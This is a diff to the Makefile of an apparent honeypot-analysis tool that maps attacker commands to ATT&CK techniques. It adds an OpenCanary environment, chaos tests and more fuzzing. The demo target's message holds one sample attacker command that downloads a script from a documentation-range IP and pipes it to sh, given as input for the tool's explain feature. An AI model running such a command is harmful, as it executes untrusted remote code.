@@ -3,8 +3,9 @@ PYTHON ?= $(shell command -v python3.11 || command -v python3)
 VENV := .venv
 BIN := $(VENV)/bin
 COWRIE := .venv-cowrie
+OPENCANARY := .venv-opencanary
 
-.PHONY: help demo test check format bench fuzz golden recording picture clean
+.PHONY: help demo test check format bench fuzz chaos golden recording picture clean
 
 help: ## list the commands
 	@grep -E '^[a-z-]+:.*## ' Makefile | sed -E 's/:.*## /\t/' | expand -t 12
@@ -13,8 +14,8 @@ demo: $(VENV)/.installed ## tag the recorded attack that ships with the project
 	@DECNET_DATA_DIR=build/demo $(BIN)/decnet ttp tag demo/cowrie.json --navigator build/demo/layer.json
 	@echo "Open build/demo/layer.json in the ATT&CK Navigator, or try: $(BIN)/decnet ttp explain 'curl -s http://203.0.113.7/x.sh | sh'"
 
-test: $(VENV)/.dev $(COWRIE)/.installed ## run every test
-	@$(BIN)/pytest
+test: $(VENV)/.dev $(COWRIE)/.installed $(OPENCANARY)/.installed ## run every test, properties on the same examples each time
+	@$(BIN)/pytest --numprocesses 2 --dist worksteal --hypothesis-profile ci
 
 check: $(VENV)/.dev ## format, lint, types, imports, spelling, rules
 	@$(BIN)/ruff format --check --quiet .
@@ -23,6 +24,7 @@ check: $(VENV)/.dev ## format, lint, types, imports, spelling, rules
 	@$(BIN)/lint-imports --no-logo
 	@$(BIN)/codespell
 	@$(BIN)/yamllint --strict rules
+	@$(BIN)/decnet ttp rules lint rules
 
 format: $(VENV)/.dev ## format the code and mend what ruff can mend
 	@$(BIN)/ruff format --quiet .
@@ -34,9 +36,15 @@ picture: $(VENV)/.dev ## draw the picture in the README anew
 bench: $(VENV)/.dev ## measure speed, print ratios
 	@$(BIN)/python -m bench
 
-fuzz: $(VENV)/.dev ## a million random inputs through the shell view, a hundred thousand through every matcher
+fuzz: $(VENV)/.dev ## a million random inputs through the shell view and through the engine, a hundred thousand through every matcher, properties on new examples
 	@$(BIN)/python -m tests.shell.fuzz 1000000
-	@$(BIN)/python -m tests.ttp.fuzz 100000
+	@$(BIN)/python -m tests.ttp.fuzz engine 1000000
+	@$(BIN)/python -m tests.ttp.fuzz matchers 100000
+	@$(BIN)/pytest --numprocesses 2 --dist worksteal -m hypothesis
+
+chaos: $(VENV)/.dev ## kill everything fifty times, its own servers too, and hold the result to an undisturbed run
+	@$(BIN)/python -m tests.chaos.run --kills 50
+	@$(BIN)/python -m tests.chaos.whole --kills 50 --events 200000
 
 golden: $(VENV)/.dev ## rewrite golden files after a wanted change
 	@$(BIN)/pytest -q --golden
@@ -54,11 +62,16 @@ $(VENV)/.dev: $(VENV)/.installed
 	@$(BIN)/python -m pip install --quiet --disable-pip-version-check --constraint constraints.txt --group dev
 	@touch $@
 
-# Cowrie pins every library that it uses, so it lives in an environment of its own.
+# Each honeypot pins the libraries that it uses, so each lives in an environment of its own.
 $(COWRIE)/.installed: constraints-cowrie.txt
 	@$(PYTHON) -m venv $(COWRIE)
 	@$(COWRIE)/bin/python -m pip install --quiet --disable-pip-version-check --constraint constraints-cowrie.txt cowrie
 	@touch $@
 
+$(OPENCANARY)/.installed: constraints-opencanary.txt
+	@$(PYTHON) -m venv $(OPENCANARY)
+	@$(OPENCANARY)/bin/python -m pip install --quiet --disable-pip-version-check --constraint constraints-opencanary.txt opencanary
+	@touch $@
+
 clean: ## remove what the commands above made
-	rm -rf $(VENV) $(COWRIE) build dist .mypy_cache .ruff_cache .pytest_cache .hypothesis .import_linter_cache
+	rm -rf $(VENV) $(COWRIE) $(OPENCANARY) build dist .mypy_cache .ruff_cache .pytest_cache .hypothesis .import_linter_cache
